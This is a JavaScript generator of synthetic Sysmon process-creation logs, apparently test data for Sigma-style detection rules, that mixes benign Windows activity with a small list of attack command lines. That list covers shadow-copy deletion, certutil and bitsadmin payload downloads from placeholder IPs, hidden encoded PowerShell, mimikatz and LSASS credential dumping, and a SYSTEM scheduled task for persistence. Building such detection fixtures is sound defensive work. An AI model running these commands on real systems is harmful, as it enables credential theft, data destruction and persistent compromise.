// A deterministic mix of Sysmon process-creation events (EventID 1) as evtx_dump writes them
// (`Event.System.*`, `Event.EventData.*`): what a Windows fleet runs all day — browsers, Office,
// services, updaters, developer tools, admin shells — with the usual noise in paths, GUIDs, ports
// and PIDs, and about one event in 10,000 replaced by a known attack command line.
import { seededRandom } from './lib.mjs';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter'];
const HOSTS = Array.from({ length: 200 }, (_, i) => `WS${String(i + 1).padStart(4, '0')}.corp.example.com`);

const hex = (rand, n) => Array.from({ length: n }, () => '0123456789ABCDEF'[Math.floor(rand() * 16)]).join('');
const guid = (rand) => `${hex(rand, 8)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 12)}`.toLowerCase();
const pick = (rand, xs) => xs[Math.floor(rand() * xs.length)];

/** Benign processes: image, parent, command line (from a random source), file metadata. */
const BENIGN = [
  {
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    cmd: (r, u) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=${Math.floor(r() * 900) + 10} --launch-time-ticks=${Math.floor(r() * 1e10)} --field-trial-handle=${Math.floor(r() * 9000)},i,${Math.floor(r() * 1e18)},${Math.floor(r() * 1e18)},262144 /prefetch:1`,
    meta: ['Google Chrome', 'Google LLC', 'chrome.exe', '120.0.6099.130'],
  },
  {
    image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    parent: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    cmd: (r) => `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=${Math.floor(r() * 9000)} --field-trial-handle=${Math.floor(r() * 9000)},i,${Math.floor(r() * 1e17)} /prefetch:3`,
    meta: ['Microsoft Edge', 'Microsoft Corporation', 'msedge.exe', '120.0.2210.91'],
  },
  {
    image: 'C:\\Windows\\System32\\svchost.exe',
    parent: 'C:\\Windows\\System32\\services.exe',
    cmd: (r) => `C:\\Windows\\system32\\svchost.exe -k ${pick(r, ['netsvcs', 'LocalService', 'NetworkService', 'LocalSystemNetworkRestricted', 'UnistackSvcGroup', 'wsappx', 'DcomLaunch'])} -p -s ${pick(r, ['Schedule', 'BITS', 'wuauserv', 'Appinfo', 'gpsvc', 'ProfSvc', 'Winmgmt', 'DoSvc', 'UsoSvc', 'CDPSvc', 'TokenBroker'])}`,
    meta: ['Host Process for Windows Services', 'Microsoft Corporation', 'svchost.exe', '10.0.19041.1 (WinBuild.160101.0800)'],
    system: true,
  },
  {
    image: 'C:\\Windows\\System32\\conhost.exe',
    parent: 'C:\\Windows\\System32\\cmd.exe',
    cmd: () => '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    meta: ['Console Window Host', 'Microsoft Corporation', 'CONHOST.EXE', '10.0.19041.1'],
  },
  {
    image: 'C:\\Windows\\System32\\RuntimeBroker.exe',
    parent: 'C:\\Windows\\System32\\svchost.exe',
    cmd: () => 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
    meta: ['Runtime Broker', 'Microsoft Corporation', 'RuntimeBroker.exe', '10.0.19041.3636'],
  },
  {
    image: 'C:\\Windows\\System32\\backgroundTaskHost.exe',
    parent: 'C:\\Windows\\System32\\svchost.exe',
    cmd: (r) => `"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:${pick(r, ['App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', 'BackgroundTaskHost.WebAccountProvider', 'CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca'])}`,
    meta: ['Background Task Host', 'Microsoft Corporation', 'backgroundTaskHost.exe', '10.0.19041.1'],
  },
  {
    image: 'C:\\Windows\\System32\\SearchProtocolHost.exe',
    parent: 'C:\\Windows\\System32\\SearchIndexer.exe',
    cmd: (r) => `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${Math.floor(r() * 300)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${Math.floor(r() * 300)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"`,
    meta: ['Microsoft Windows Search Protocol Host', 'Microsoft Corporation', 'searchprotocolhost.exe', '7.0.19041.3636'],
    system: true,
  },
  {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: () => '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
    meta: ['Microsoft Outlook', 'Microsoft Corporation', 'outlook.exe', '16.0.17029.20108'],
  },
  {
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r, u) => `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${u}\\Documents\\${pick(r, ['Q3 report', 'minutes', 'proposal draft', 'budget 2024'])}.docx" /o ""`,
    meta: ['Microsoft Word', 'Microsoft Corporation', 'WinWord.exe', '16.0.17029.20108'],
  },
  {
    image: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r, u) => `"C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=${Math.floor(r() * 9000)},${Math.floor(r() * 1e16)} --lang=en-US --app-path="C:\\Users\\${u}\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar" --no-sandbox --renderer-client-id=${Math.floor(r() * 90) + 5} /prefetch:1`,
    meta: ['Microsoft Teams', 'Microsoft Corporation', 'Teams.exe', '1.6.00.33567'],
  },
  {
    image: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r, u) => `"C:\\Users\\${u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --user-data-dir="C:\\Users\\${u}\\AppData\\Roaming\\Code" --standard-schemes=vscode-webview,vscode-file --mojo-platform-channel-handle=${Math.floor(r() * 9000)} /prefetch:8`,
    meta: ['Visual Studio Code', 'Microsoft Corporation', 'electron.exe', '1.85.1'],
  },
  {
    image: 'C:\\Program Files\\Git\\cmd\\git.exe',
    parent: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    cmd: (r) => `"C:\\Program Files\\Git\\cmd\\git.exe" ${pick(r, ['status -z -uall', 'fetch', 'rev-parse --show-toplevel', 'log --oneline -n 20', `show ${hex(r, 40).toLowerCase()}`, 'config --get commit.template', 'for-each-ref --format %(refname)'])}`,
    meta: ['Git for Windows', 'The Git Development Community', 'git.exe', '2.43.0.windows.1'],
  },
  {
    image: 'C:\\Program Files\\nodejs\\node.exe',
    parent: 'C:\\Windows\\System32\\cmd.exe',
    cmd: (r, u) => `"C:\\Program Files\\nodejs\\node.exe" "C:\\Users\\${u}\\src\\${pick(r, ['web', 'api', 'tools'])}\\node_modules\\${pick(r, ['typescript', 'npm', 'pnpm'])}\\bin\\${pick(r, ['tsc', 'npm-cli', 'pnpm.cjs'])}" ${pick(r, ['--watch', 'run build', '--build', 'install'])}`,
    meta: ['Node.js', 'Node.js', 'node.exe', '20.10.0'],
  },
  {
    image: 'C:\\Windows\\System32\\cmd.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: () => '"C:\\Windows\\system32\\cmd.exe" ',
    meta: ['Windows Command Processor', 'Microsoft Corporation', 'Cmd.Exe', '10.0.19041.746'],
  },
  {
    image: 'C:\\Windows\\System32\\taskhostw.exe',
    parent: 'C:\\Windows\\System32\\svchost.exe',
    cmd: (r) => `taskhostw.exe ${pick(r, ['{222A245B-E637-4AE9-A93F-A59CA119A75E}', 'Install $(Arg0)', 'SYSTEM', 'KEYROAMING'])}`,
    meta: ['Host Process for Windows Tasks', 'Microsoft Corporation', 'taskhostw.exe', '10.0.19041.3636'],
  },
  {
    image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    parent: 'C:\\Windows\\System32\\svchost.exe',
    cmd: () => 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    meta: ['WMI Provider Host', 'Microsoft Corporation', 'Wmiprvse.exe', '10.0.19041.3636'],
    system: true,
  },
  {
    image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe',
    parent: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe',
    cmd: () => '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -RestrictPrivileges',
    meta: ['Microsoft Malware Protection Command Line Utility', 'Microsoft Corporation', 'MpCmdRun.exe', '4.18.23110.3'],
    system: true,
  },
  {
    image: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r, u) => `"C:\\Users\\${u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background`,
    meta: ['Microsoft OneDrive', 'Microsoft Corporation', 'OneDrive.exe', '23.246.1127.0002'],
  },
  {
    image: 'C:\\Windows\\System32\\dllhost.exe',
    parent: 'C:\\Windows\\System32\\svchost.exe',
    cmd: (r) => `C:\\Windows\\system32\\DllHost.exe /Processid:{${guid(r).toUpperCase()}}`,
    meta: ['COM Surrogate', 'Microsoft Corporation', 'dllhost.exe', '10.0.19041.546'],
  },
  {
    image: 'C:\\Program Files\\Python311\\python.exe',
    parent: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmd: (r, u) => `"C:\\Program Files\\Python311\\python.exe" C:\\Users\\${u}\\src\\analytics\\${pick(r, ['etl.py', 'train.py', 'report.py'])} --date 2024-03-${String(Math.floor(r() * 28) + 1).padStart(2, '0')}`,
    meta: ['Python', 'Python Software Foundation', 'python.exe', '3.11.7'],
  },
  {
    image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: () => '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    meta: ['Windows PowerShell', 'Microsoft Corporation', 'PowerShell.EXE', '10.0.19041.3636'],
  },
  {
    image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r) => `"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=${Math.floor(r() * 9000)} -childID ${Math.floor(r() * 40)} -isForBrowser -prefsLen ${Math.floor(r() * 40000)} -prefMapSize 235121 -jsInitLen 235660 -parentBuildID 20231219165437 -appDir "C:\\Program Files\\Mozilla Firefox\\browser" - ${Math.floor(r() * 9000)} tab`,
    meta: ['Firefox', 'Mozilla Corporation', 'firefox.exe', '121.0'],
  },
  {
    image: 'C:\\Windows\\System32\\msiexec.exe',
    parent: 'C:\\Windows\\System32\\services.exe',
    cmd: (r) => `C:\\Windows\\system32\\msiexec.exe /V`,
    meta: ['Windows® installer', 'Microsoft Corporation', 'msiexec.exe', '5.0.19041.3636'],
    system: true,
  },
  {
    image: 'C:\\Program Files\\Slack\\app-4.35.131\\slack.exe',
    parent: 'C:\\Windows\\explorer.exe',
    cmd: (r, u) => `"C:\\Program Files\\Slack\\app-4.35.131\\slack.exe" --type=gpu-process --user-data-dir="C:\\Users\\${u}\\AppData\\Roaming\\Slack" --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=${Math.floor(r() * 9000)} --field-trial-handle=${Math.floor(r() * 9000)},i,${Math.floor(r() * 1e16)} /prefetch:2`,
    meta: ['Slack', 'Slack Technologies, Inc.', 'slack.exe', '4.35.131'],
  },
];

/** Known attack command lines (each the kind of thing the SigmaHQ process_creation rules exist for). */
const ATTACKS = [
  { image: 'C:\\Windows\\System32\\vssadmin.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'vssadmin.exe delete shadows /all /quiet', ofn: 'VSSADMIN.EXE' },
  { image: 'C:\\Windows\\System32\\certutil.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\payload.exe', ofn: 'CertUtil.exe' },
  { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', ofn: 'PowerShell.EXE' },
  { image: 'C:\\Users\\Public\\mimikatz.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', ofn: 'mimikatz.exe' },
  { image: 'C:\\Windows\\System32\\rundll32.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full', ofn: 'RUNDLL32.EXE' },
  { image: 'C:\\Windows\\System32\\wbem\\WMIC.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'wmic shadowcopy delete', ofn: 'wmic.exe' },
  { image: 'C:\\Windows\\System32\\schtasks.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'schtasks /create /sc minute /mo 5 /tn Updater /tr "C:\\Users\\Public\\update.exe" /ru SYSTEM', ofn: 'schtasks.exe' },
  { image: 'C:\\Windows\\System32\\bitsadmin.exe', parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'bitsadmin /transfer myjob /download /priority high http://198.51.100.9/a.exe C:\\Users\\Public\\a.exe', ofn: 'bitsadmin.exe' },
];

/**
 * `count` events; every `attackEvery`-th (on average) is an attack. Times advance by a few ms so
 * event-time windows (if any) see a realistic clock.
 */
export function sysmonProcessCreation(count, { seed = 1, attackEvery = 10_000 } = {}) {
  const rand = seededRandom(seed);
  const out = new Array(count);
  let at = Date.UTC(2024, 2, 7, 9, 0, 0);
  for (let i = 0; i < count; i++) {
    at += Math.floor(rand() * 5);
    const user = pick(rand, USERS);
    const host = pick(rand, HOSTS);
    let data;
    if (rand() * attackEvery < 1) {
      const a = pick(rand, ATTACKS);
      data = { Image: a.image, CommandLine: a.cmd, ParentImage: a.parent, ParentCommandLine: 'C:\\Windows\\system32\\cmd.exe', OriginalFileName: a.ofn, User: `CORP\\${user}`, IntegrityLevel: 'High', CurrentDirectory: `C:\\Users\\${user}\\` };
    } else {
      const b = pick(rand, BENIGN);
      const image = b.image.replaceAll('{user}', user);
      const parent = b.parent.replaceAll('{user}', user);
      data = {
        Image: image,
        CommandLine: b.cmd(rand, user),
        ParentImage: parent,
        ParentCommandLine: `"${parent}" `,
        OriginalFileName: b.meta[2],
        Description: b.meta[0],
        Product: b.meta[0],
        Company: b.meta[1],
        FileVersion: b.meta[3],
        User: b.system ? 'NT AUTHORITY\\SYSTEM' : `CORP\\${user}`,
        IntegrityLevel: b.system ? 'System' : 'Medium',
        CurrentDirectory: b.system ? 'C:\\Windows\\system32\\' : `C:\\Users\\${user}\\`,
      };
    }
    const pid = 1000 + Math.floor(rand() * 60000);
    out[i] = {
      Event: {
        System: { Provider_attributes: { Name: 'Microsoft-Windows-Sysmon' }, EventID: 1, Channel: SYSMON, Computer: host, EventRecordID: i + 1, TimeCreated_attributes: { SystemTime: new Date(at).toISOString() } },
        EventData: {
          RuleName: '-',
          UtcTime: new Date(at).toISOString().replace('T', ' ').replace('Z', ''),
          ProcessGuid: `{${guid(rand)}}`,
          ProcessId: pid,
          ...data,
          LogonGuid: `{${guid(rand)}}`,
          LogonId: `0x${hex(rand, 6).toLowerCase()}`,
          TerminalSessionId: 1,
          Hashes: `SHA1=${hex(rand, 40)},MD5=${hex(rand, 32)},SHA256=${hex(rand, 64)},IMPHASH=${hex(rand, 32)}`,
          ParentProcessGuid: `{${guid(rand)}}`,
          ParentProcessId: pid - 1 - Math.floor(rand() * 900),
          ParentUser: data.User,
        },
      },
    };
  }
  return out;
}
